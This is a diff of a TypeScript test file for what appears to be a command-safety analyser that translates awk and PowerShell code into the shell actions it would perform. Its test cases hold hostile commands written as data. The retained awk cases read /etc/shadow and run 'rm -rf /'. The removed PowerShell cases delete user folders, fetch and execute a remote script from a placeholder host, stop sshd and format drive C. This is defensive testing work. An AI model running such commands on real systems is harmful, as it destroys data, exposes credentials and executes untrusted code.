@@ -43,18 +43,6 @@ const cases: [language: Exclude<CodeLanguage, 'shell'>, code: string, deeds: str
   ['awk', 'BEGIN { while ((getline line < "/etc/shadow") > 0) n++ }', ['cat /etc/shadow < /etc/shadow']],
   ['awk', 'BEGIN { c = "rm"; system(c " -rf /") }', ['$ rm -rf /']],
   ['awk', '$3 > 5 && /rm -rf/ { print $1 }', []],
-  ['powershell', 'Remove-Item -Recurse -Force C:\\Users', ['rm -rf C:\\Users']],
-  ['powershell', 'Get-ChildItem | Remove-Item -Recurse', ['get-childitem', 'rm -r']],
-  [
-    'powershell',
-    'iwr https://h.example/x.ps1 | iex',
-    ['curl https://h.example/x.ps1', 'sh | curl https://h.example/x.ps1'],
-  ],
-  ['powershell', `Invoke-Expression 'Remove-Item -Force x'`, ['rm -f x']],
-  ['powershell', '$p = "C:\\data"; rm -r $p', ['rm -r C:\\data']],
-  ['powershell', 'Stop-Process -Name sshd', ['pkill sshd']],
-  ['powershell', 'Format-Volume -DriveLetter C', ['mkfs -DriveLetter C']],
-  ['powershell', `Write-Output 'Remove-Item x' # del y`, ['write-output "Remove-Item x"']],
 ];
 
 describe('other languages: what a program would do is told in words of the shell', () => {
